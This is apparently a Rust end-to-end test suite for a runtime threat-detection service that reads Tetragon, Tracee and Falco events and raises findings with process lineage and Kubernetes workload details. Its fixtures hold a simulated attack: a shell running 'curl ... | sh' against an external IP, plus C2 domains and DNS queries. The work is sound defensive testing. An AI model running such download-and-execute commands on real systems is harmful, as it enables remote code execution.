//! Runtime events end to end: the sensors' real captures read without a complaint, and
//! runtime findings raised by real rule modules, with lineage and workload.

use std::path::{Path, PathBuf};

use peregrine_e2e::{scan, shipped_rules_dir, workspace_path};

fn files_under(dir: &Path, out: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if path.is_dir() {
            files_under(&path, out);
        } else if path
            .extension()
            .is_some_and(|e| e == "json" || e == "jsonl")
        {
            out.push(path);
        }
    }
}

#[test]
fn every_sensor_capture_of_the_corpus_is_read_without_a_complaint() {
    let mut files = Vec::new();
    files_under(&workspace_path("tests/corpus/runtime"), &mut files);
    files.sort();
    let scanned = scan(shipped_rules_dir(), &files);
    assert_eq!(scanned.notices, Vec::<String>::new());
    let report = &scanned.report;
    assert_eq!(report.malformed, 0);
    assert_eq!(report.files_failed, 0);
    // 61 Tetragon events, 9 Falco alerts, 81 Tracee events (6 more Tracee events have no
    // activity: reads and closes): see the MANIFESTs.
    assert_eq!(report.runtime_events_read, 61 + 9 + 81);
    assert_eq!(report.events_read, report.runtime_events_read);
    // Two captures are in the corpus twice (one Tetragon exec in two docs pages, one Falco
    // alert in the docs and a blog post): each is judged once.
    assert_eq!(report.events_judged, report.runtime_events_read - 2);
    // What the captures show of attacks, and nothing else: a kernel module load (insmod of
    // an out-of-tree module) and the kernel's request for xfs; `vi` editing `/etc/passwd`
    // in a pod (the file-access demos); `nsenter -t 1` from a privileged pod into the
    // node's namespaces; netcat run in a pod. Nothing in it is on the test lists.
    let mut types: Vec<&str> = report
        .findings
        .iter()
        .map(|f| f.finding_type.as_str())
        .collect();
    types.sort();
    types.dedup();
    assert_eq!(
        types,
        vec![
            "DefenseEvasion:Runtime/KernelModuleLoaded",
            "Execution:Runtime/SuspiciousTool",
            "Persistence:Runtime/SensitiveFileModified",
            "PrivilegeEscalation:Runtime/SuspiciousCommand",
        ]
    );
    let edited: Vec<&str> = report
        .findings
        .iter()
        .filter(|f| f.finding_type == "Persistence:Runtime/SensitiveFileModified")
        .map(|f| f.description.as_str())
        .collect();
    assert!(
        edited.iter().all(|d| d.contains("/etc/passwd")),
        "{edited:?}"
    );
}

#[test]
fn a_runtime_finding_carries_the_process_its_lineage_and_its_workload() {
    let dir = tempfile::tempdir().unwrap();
    // Tetragon without --enable-ancestors: each event names only its parent; the exec
    // events before it let the host give the connect its whole lineage.
    let exec = |id: &str, parent: &str, binary: &str, args: &str, time: &str| {
        serde_json::json!({"process_exec": {"process": {
            "exec_id": id, "parent_exec_id": parent, "pid": 100 + id.len(), "uid": 0,
            "binary": binary, "arguments": args, "cwd": "/app", "flags": "execve clone",
            "start_time": time,
            "pod": {"namespace": "shop", "name": "api-5c9d7-xk2lp", "uid": "9a8b7c6d-1e2f-4a3b-8c4d-5e6f7a8b9c0d",
                    "container": {"id": "containerd://2f1e0d9c8b7a69584736251403f2e1d0", "name": "api",
                                  "image": {"id": "registry.example.com/shop/api@sha256:abcd", "name": "registry.example.com/shop/api:1.4"},
                                  "pid": 7},
                    "workload": "api", "workload_kind": "Deployment"}}},
         "node_name": "gke-node-1", "time": time})
    };
    let mut connect = exec(
        "ZXhlYzM=",
        "ZXhlYzI=",
        "/usr/bin/curl",
        "-s http://45.155.205.233/stage2",
        "2026-11-30T10:00:02Z",
    );
    let process = connect["process_exec"]["process"].take();
    connect = serde_json::json!({"process_kprobe": {"process": process, "function_name": "tcp_connect",
        "policy_name": "peregrine-network",
        "args": [{"sock_arg": {"family": "AF_INET", "protocol": "IPPROTO_TCP", "saddr": "10.4.0.7",
                                "daddr": "45.155.205.233", "sport": 51000, "dport": 80}}]},
        "node_name": "gke-node-1", "time": "2026-11-30T10:00:03Z"});
    let lines = [
        exec(
            "ZXhlYzE=",
            "c2hpbQ==",
            "/app/server",
            "--port 8080",
            "2026-11-30T10:00:00Z",
        ),
        exec(
            "ZXhlYzI=",
            "ZXhlYzE=",
            "/bin/sh",
            "-c \"curl -s http://45.155.205.233/stage2 | sh\"",
            "2026-11-30T10:00:01Z",
        ),
        exec(
            "ZXhlYzM=",
            "ZXhlYzI=",
            "/usr/bin/curl",
            "-s http://45.155.205.233/stage2",
            "2026-11-30T10:00:02Z",
        ),
        connect,
    ];
    let file = dir.path().join("tetragon.log");
    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
    std::fs::write(&file, text).unwrap();

    let scanned = scan(shipped_rules_dir(), &[file]);
    assert_eq!(scanned.notices, Vec::<String>::new());
    let findings = &scanned.report.findings;
    // The shell that piped the download into itself is a suspicious command too.
    let mut types: Vec<&str> = findings.iter().map(|f| f.finding_type.as_str()).collect();
    types.sort();
    assert_eq!(
        types,
        [
            "Backdoor:Runtime/C&CActivity.B",
            "Execution:Runtime/SuspiciousCommand"
        ],
        "{findings:#?}"
    );
    let cc = findings
        .iter()
        .find(|f| f.finding_type == "Backdoor:Runtime/C&CActivity.B")
        .unwrap();
    let json = serde_json::to_value(cc).unwrap();
    assert_eq!(json["type"], "Backdoor:Runtime/C&CActivity.B");
    assert_eq!(json["severity"], 8.0);
    assert_eq!(json["service"]["featureName"], "RuntimeMonitoring");
    assert_eq!(json["service"]["action"], serde_json::json!({}));
    assert!(json["service"].get("resourceRole").is_none());
    assert!(
        json["resource"]["kubernetesDetails"]
            .get("kubernetesUserDetails")
            .is_none()
    );

    let process = &json["service"]["runtimeDetails"]["process"];
    assert_eq!(process["executablePath"], "/usr/bin/curl");
    assert_eq!(process["name"], "curl");
    assert_eq!(process["namespacePid"], 7);
    assert_eq!(process["user"], "root");
    assert_eq!(
        process["commandLine"],
        "/usr/bin/curl -s http://45.155.205.233/stage2"
    );
    let lineage: Vec<&str> = process["lineage"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["executablePath"].as_str().unwrap())
        .collect();
    assert_eq!(lineage, vec!["/bin/sh", "/app/server"]);
    assert_eq!(process["parentUuid"], process["lineage"][0]["uuid"]);
    assert_eq!(
        process["lineage"][0]["parentUuid"],
        process["lineage"][1]["uuid"]
    );
    assert_eq!(
        json["service"]["runtimeDetails"]["context"],
        serde_json::json!({"addressFamily": "AF_INET", "ianaProtocolNumber": "6"})
    );
    assert_eq!(
        json["service"]["evidence"]["threatIntelligenceDetails"][0]["threatListName"],
        "Peregrine known malicious IPs"
    );

    let workload = &json["resource"]["kubernetesDetails"]["kubernetesWorkloadDetails"];
    assert_eq!(workload["name"], "api");
    assert_eq!(workload["type"], "deployments");
    assert_eq!(workload["namespace"], "shop");
    assert_eq!(workload["podName"], "api-5c9d7-xk2lp");
    assert_eq!(
        workload["containers"][0]["image"],
        "registry.example.com/shop/api:1.4"
    );
    assert_eq!(
        workload["containers"][0]["imagePrefix"],
        "registry.example.com/shop"
    );
    assert_eq!(workload["containers"][0]["containerRuntime"], "containerd");
    assert_eq!(json["resource"]["nodeDetails"]["name"], "gke-node-1");
    assert_eq!(json["resource"]["resourceType"], "EKSCluster");
    assert_eq!(
        json["service"]["eventFirstSeen"],
        "2026-11-30T10:00:03.000Z"
    );
    assert_eq!(json["service"]["additionalInfo"]["sensor"], "tetragon");
}

#[test]
fn a_resent_runtime_event_is_judged_once() {
    let dir = tempfile::tempdir().unwrap();
    let positive = std::fs::read_to_string(workspace_path(
        "rules/backdoor-runtime-c-and-c-activity-b/fixtures/positive.jsonl",
    ))
    .unwrap();
    let file = dir.path().join("twice.jsonl");
    std::fs::write(&file, format!("{positive}{positive}")).unwrap();
    let scanned = scan(shipped_rules_dir(), &[file]);
    let report = &scanned.report;
    assert_eq!(report.runtime_events_read, 8);
    assert_eq!(report.events_judged, 4);
    let counts: Vec<u64> = report.findings.iter().map(|f| f.service.count).collect();
    assert_eq!(counts.iter().sum::<u64>(), 4, "{counts:?}");
}

const PEREGRINE: &str = env!("CARGO_BIN_EXE_peregrine-under-test");

/// A Tetragon exec of `binary` in the `api` Deployment's pod, child of `parent`.
fn tetragon_exec(id: &str, parent: &str, binary: &str, second: u64) -> serde_json::Value {
    let time = format!("2026-11-30T10:{:02}:{:02}Z", second / 60 % 60, second % 60);
    serde_json::json!({"process_exec": {"process": {
        "exec_id": id, "parent_exec_id": parent, "pid": 1000 + second, "uid": 0,
        "binary": binary, "arguments": format!("--n {second}"), "cwd": "/", "flags": "execve clone",
        "start_time": time,
        "pod": {"namespace": "shop", "name": "api-5c9d7-xk2lp",
                "container": {"id": "containerd://2f1e0d9c8b7a", "name": "api",
                              "image": {"id": "registry.example.com/shop/api@sha256:abcd", "name": "registry.example.com/shop/api:1.4"}},
                "workload": "api", "workload_kind": "Deployment"}}},
     "node_name": "gke-node-1", "time": time})
}

fn serve_args(db: &str, rules: &Path, extra: &[String]) -> Vec<String> {
    let mut args = vec![
        "--database-url".to_string(),
        db.to_string(),
        "--rules".into(),
        rules.display().to_string(),
        "--intel".into(),
        workspace_path("tests/fixtures/intel").display().to_string(),
    ];
    args.extend_from_slice(extra);
    args
}

#[test]
fn runtime_lines_posted_over_http_are_judged_once_with_lineage_and_workload() {
    use peregrine_e2e::db::TestDatabase;
    use peregrine_e2e::live::Server;
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let db = runtime.block_on(TestDatabase::postgres());
    let rules = peregrine_e2e::rules_dir(true, &["runtime-echo"]);
    let server = Server::start(PEREGRINE, &serve_args(&db.url, rules.path(), &[]));
    // A suppression rule over a runtime field archives what it matches on arrival.
    let (status, created) = server.post(
        "/v1/filters",
        &serde_json::json!({"name": "server-execs", "action": "ARCHIVE", "rank": 1,
            "findingCriteria": {"criterion": {
                "type": {"equals": ["Test:Fixture/RuntimeEcho"]},
                "service.runtimeDetails.process.name": {"equals": ["server"]}}}}),
    );
    assert_eq!(status, 201, "{created}");

    let mut connect = tetragon_exec("Y3VybA==", "c2g=", "/usr/bin/curl", 3);
    let process = connect["process_exec"]["process"].take();
    connect = serde_json::json!({"process_kprobe": {"process": process, "function_name": "tcp_connect",
        "args": [{"sock_arg": {"family": "AF_INET", "protocol": "IPPROTO_TCP", "saddr": "10.4.0.7",
                                "daddr": "45.155.205.233", "sport": 51000, "dport": 443}}]},
        "node_name": "gke-node-1", "time": "2026-11-30T10:00:04Z"});
    let lines = [
        tetragon_exec("c2VydmVy", "c2hpbQ==", "/app/server", 1),
        tetragon_exec("c2g=", "c2VydmVy", "/bin/sh", 2),
        tetragon_exec("Y3VybA==", "c2g=", "/usr/bin/curl", 3),
        connect,
    ];
    // As Fluent Bit's `json_lines` posts a tailed file without a parser: each line
    // wrapped in a record; the last one as it is.
    let body: String = lines
        .iter()
        .enumerate()
        .map(|(i, line)| {
            if i < 3 {
                format!(
                    "{}\n",
                    serde_json::json!({"date": 1764496800.5, "log": line.to_string()})
                )
            } else {
                format!("{line}\n")
            }
        })
        .collect();
    let (status, receipt) = server.post_runtime(&body);
    assert_eq!(status, 200, "{receipt}\n{}", server.log());
    assert_eq!(receipt["accepted"], 4, "{receipt}");
    assert_eq!(receipt["judged"], 4, "{receipt}");
    // A retry of the same body is recognised.
    let (status, receipt) = server.post_runtime(&body);
    assert_eq!(status, 200, "{receipt}");
    assert_eq!(receipt["judged"], 0, "{receipt}");

    let echoes = server.all_findings(Some("Test:Fixture/RuntimeEcho"));
    assert_eq!(echoes.len(), 4);
    assert!(echoes.iter().all(|f| f["service"]["count"] == 1));
    let all = server.all_findings(None);
    let cc: Vec<&serde_json::Value> = all
        .iter()
        .filter(|f| f["type"] == "Backdoor:Runtime/C&CActivity.B")
        .collect();
    assert_eq!(cc.len(), 1, "{all:#?}");
    let finding = cc[0];
    let lineage: Vec<&str> = finding["service"]["runtimeDetails"]["process"]["lineage"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["executablePath"].as_str().unwrap())
        .collect();
    assert_eq!(lineage, vec!["/bin/sh", "/app/server"]);
    let workload = &finding["resource"]["kubernetesDetails"]["kubernetesWorkloadDetails"];
    assert_eq!(
        (workload["type"].as_str(), workload["name"].as_str()),
        (Some("deployments"), Some("api"))
    );
    assert_eq!(finding["resource"]["eksClusterDetails"]["name"], "test");

    // Criteria work over the runtime fields as over the audit ones.
    let (status, page) = server.get("/v1/findings?maxResults=50&type=Test:Fixture/RuntimeEcho");
    assert_eq!(status, 200);
    assert_eq!(page["findings"].as_array().unwrap().len(), 4);
    drop(server);
    runtime.block_on(db.cleanup());
}

#[test]
fn killed_while_following_a_sensor_export_it_judges_every_event_exactly_once() {
    use peregrine_e2e::db::TestDatabase;
    use peregrine_e2e::live::{Server, wait_until};
    use std::io::Write;
    use std::time::Duration;
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let db = runtime.block_on(TestDatabase::postgres());
    let store = runtime
        .block_on(peregrine::store::Store::connect(&db.url))
        .unwrap();
    let count = || runtime.block_on(store.count()).unwrap() as usize;
    let rules = tempfile::tempdir().unwrap();
    std::fs::copy(
        peregrine_e2e::fixture_rule("runtime-echo"),
        rules.path().join("runtime-echo.wasm"),
    )
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("tetragon.log");
    const N: u64 = 20_000;
    // Each process the child of the one before it, so lineage needs the table.
    let events: Vec<String> = (0..N)
        .map(|i| {
            tetragon_exec(
                &format!("p{i}"),
                &format!("p{}", i.saturating_sub(1)),
                "/bin/step",
                i,
            )
            .to_string()
        })
        .collect();
    let append = |range: std::ops::Range<usize>| {
        let mut file = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(&log)
            .unwrap();
        let text: String = events[range].iter().map(|e| format!("{e}\n")).collect();
        file.write_all(text.as_bytes()).unwrap();
    };
    append(0..15_000);
    let args = serve_args(
        &db.url,
        rules.path(),
        &["--follow".to_string(), log.display().to_string()],
    );
    let server = Server::start(PEREGRINE, &args);
    wait_until("the first findings", Duration::from_secs(60), || {
        count() > 0
    });
    server.kill9();
    let at_kill = count();
    assert!(
        at_kill < 15_000,
        "killed after the file was done ({at_kill})"
    );
    append(15_000..18_000);
    let server = Server::start(PEREGRINE, &args);
    wait_until("the rest", Duration::from_secs(300), || count() >= 18_000);
    append(18_000..N as usize);
    wait_until("the appended events", Duration::from_secs(120), || {
        count() >= N as usize
    });
    let findings = server.all_findings(Some("Test:Fixture/RuntimeEcho"));
    assert_eq!(findings.len(), N as usize);
    assert!(
        findings.iter().all(|f| f["service"]["count"] == 1),
        "an event judged twice"
    );
    // Lineage crossed the restart only as far as the processes seen since it: the
    // table is in memory (the sensor's own `parent` is what survives).
    let last = findings
        .iter()
        .find(|f| {
            f["description"]
                .as_str()
                .unwrap()
                .starts_with(&format!("p{} ", N - 1))
        })
        .unwrap();
    assert!(
        last["service"]["additionalInfo"]["lineageDepth"]
            .as_str()
            .unwrap()
            .parse::<u32>()
            .unwrap()
            >= 1
    );
    drop(server);
    runtime.block_on(store.close());
    runtime.block_on(db.cleanup());
}

/// Copies a directory tree (the fixture intel directory, to change it in a test).
fn copy_tree(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap().flatten() {
        let target = to.join(entry.file_name());
        if entry.path().is_dir() {
            copy_tree(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}

/// A Tracee DNS request for `name` from the `shop/api-5c9d7-xk2lp` pod (Tracee names the
/// pod, not its Deployment), `at` nanoseconds into a second.
fn tracee_query(name: &str, at: u64) -> serde_json::Value {
    serde_json::json!({"timestamp": 1_764_496_800_000_000_000u64 + at, "threadStartTime": 1_764_496_000_000_000_000u64,
        "processId": 57, "hostProcessId": 48213, "parentProcessId": 1, "hostParentProcessId": 48000,
        "userId": 0, "processName": "curl", "executable": {"path": "/usr/bin/curl"}, "hostName": "gke-node-1",
        "containerId": "3f1c2a9be7d4", "container": {"id": "3f1c2a9be7d4", "name": "api", "image": "registry.example.com/shop/api:1.4"},
        "kubernetes": {"podName": "api-5c9d7-xk2lp", "podNamespace": "shop", "podUID": "pod-uid-1"},
        "eventId": "2007", "eventName": "net_packet_dns_request", "processEntityId": 99887766,
        "args": [{"name": "metadata", "type": "trace.PktMeta", "value": {"src_ip": "10.4.0.7", "dst_ip": "10.96.0.10", "src_port": 40000, "dst_port": 53, "protocol": 17}},
                 {"name": "dns_questions", "type": "[]trace.DnsQueryData", "value": [{"query": name, "query_type": "A", "query_class": "IN"}]}]})
}

/// The controllers' audit events for the pod: the ReplicaSet controller's pod create (at
/// RequestResponse, so with the pod's UID) and the Deployment controller's ReplicaSet create.
fn owner_audit_events() -> String {
    let pod = serde_json::json!({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse",
        "auditID": "c0ffee01-0000-4000-8000-000000000001", "stage": "ResponseComplete", "verb": "create",
        "requestURI": "/api/v1/namespaces/shop/pods",
        "user": {"username": "system:serviceaccount:kube-system:replicaset-controller"},
        "sourceIPs": ["10.0.0.2"], "objectRef": {"resource": "pods", "namespace": "shop", "apiVersion": "v1"},
        "responseStatus": {"code": 201},
        "responseObject": {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "api-5c9d7-xk2lp", "namespace": "shop", "uid": "pod-uid-1",
            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "api-5c9d7", "uid": "rs-1", "controller": true}]},
            "spec": {"containers": [{"name": "api", "image": "registry.example.com/shop/api:1.4"}]}},
        "requestReceivedTimestamp": "2026-11-30T09:59:00.000000Z", "stageTimestamp": "2026-11-30T09:59:00.010000Z"});
    let replica_set = serde_json::json!({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request",
        "auditID": "c0ffee01-0000-4000-8000-000000000002", "stage": "ResponseComplete", "verb": "create",
        "requestURI": "/apis/apps/v1/namespaces/shop/replicasets",
        "user": {"username": "system:serviceaccount:kube-system:deployment-controller"},
        "sourceIPs": ["10.0.0.2"], "objectRef": {"resource": "replicasets", "namespace": "shop", "name": "api-5c9d7", "apiGroup": "apps", "apiVersion": "v1"},
        "responseStatus": {"code": 201},
        "requestObject": {"kind": "ReplicaSet", "apiVersion": "apps/v1", "metadata": {"name": "api-5c9d7", "namespace": "shop",
            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "Deployment", "name": "api", "uid": "d-1", "controller": true}]},
            "spec": {"template": {"spec": {"containers": [{"name": "api", "image": "registry.example.com/shop/api:1.4"}]}}}},
        "requestReceivedTimestamp": "2026-11-30T09:58:59.000000Z", "stageTimestamp": "2026-11-30T09:58:59.010000Z"});
    serde_json::json!({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "items": [replica_set, pod]}).to_string()
}

#[test]
fn dns_queries_meet_domain_lists_and_pods_are_named_by_their_deployment_from_the_audit_stream() {
    use peregrine_e2e::db::TestDatabase;
    use peregrine_e2e::live::{Server, wait_until};
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let db = runtime.block_on(TestDatabase::postgres());
    let rules = peregrine_e2e::rules_dir(true, &[]);
    let intel = tempfile::tempdir().unwrap();
    copy_tree(&workspace_path("tests/fixtures/intel"), intel.path());
    let mut args = serve_args(&db.url, rules.path(), &[]);
    let at = args.iter().position(|a| a == "--intel").unwrap();
    args[at + 1] = intel.path().display().to_string();
    let server = Server::start(PEREGRINE, &args);

    // The audit stream shows who owns the pod; the sensor then names only the pod.
    let (status, receipt) = server.post_audit(&owner_audit_events());
    assert_eq!(status, 200, "{receipt}");
    let (status, receipt) = server.post_runtime(&format!(
        "{}\n{}\n",
        tracee_query("beacon.GuardDutyC2ActivityB.com", 1),
        tracee_query("www.example.org", 2)
    ));
    assert_eq!(status, 200, "{receipt}\n{}", server.log());
    assert_eq!(receipt["judged"], 2, "{receipt}");
    let dns = server.all_findings(Some("Backdoor:Runtime/C&CActivity.B!DNS"));
    assert_eq!(dns.len(), 1, "{dns:#?}");
    let finding = &dns[0];
    assert_eq!(finding["severity"], 8.0);
    assert_eq!(
        finding["service"]["additionalInfo"]["domain"],
        "beacon.guarddutyc2activityb.com"
    );
    let intel_details = &finding["service"]["evidence"]["threatIntelligenceDetails"][0];
    assert_eq!(intel_details["threatListName"], "c2-domains");
    assert_eq!(
        intel_details["threatNames"],
        serde_json::json!(["command-and-control"])
    );
    let workload = &finding["resource"]["kubernetesDetails"]["kubernetesWorkloadDetails"];
    assert_eq!(
        (workload["type"].as_str(), workload["name"].as_str()),
        (Some("deployments"), Some("api")),
        "{workload}"
    );
    assert_eq!(workload["namespace"], "shop");
    assert_eq!(workload["podName"], "api-5c9d7-xk2lp");
    assert_eq!(workload["podUid"], "pod-uid-1");

    // A domain list uploaded in a category applies from the next batch on, without a restart.
    let (status, upload) = server.put_text(
        "/v1/threat-lists/feodo?category=command-and-control",
        "# a feed\nevil-c2.example.org\n0.0.0.0 other-c2.example.org\n",
    );
    assert_eq!(status, 200, "{upload}");
    assert_eq!(upload["entries"], 2, "{upload}");
    assert_eq!(upload["category"], "command-and-control");
    let (status, lists) = server.get("/v1/threat-lists");
    assert_eq!(status, 200);
    let feodo = lists["threatLists"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["name"] == "feodo")
        .cloned()
        .unwrap_or_else(|| panic!("{lists}"));
    assert_eq!(feodo["kind"], "COMMAND_AND_CONTROL");
    assert_eq!(feodo["domains"], 2);
    let mut attempt = 10;
    wait_until(
        "the uploaded list to be used",
        std::time::Duration::from_secs(30),
        || {
            attempt += 1;
            let (status, _) =
                server.post_runtime(&tracee_query("x.evil-c2.example.org", attempt).to_string());
            assert_eq!(status, 200);
            server
                .all_findings(Some("Backdoor:Runtime/C&CActivity.B!DNS"))
                .iter()
                .any(|f| {
                    f["service"]["evidence"]["threatIntelligenceDetails"][0]["threatListName"]
                        == "feodo"
                })
        },
    );
    drop(server);
    runtime.block_on(db.cleanup());
}
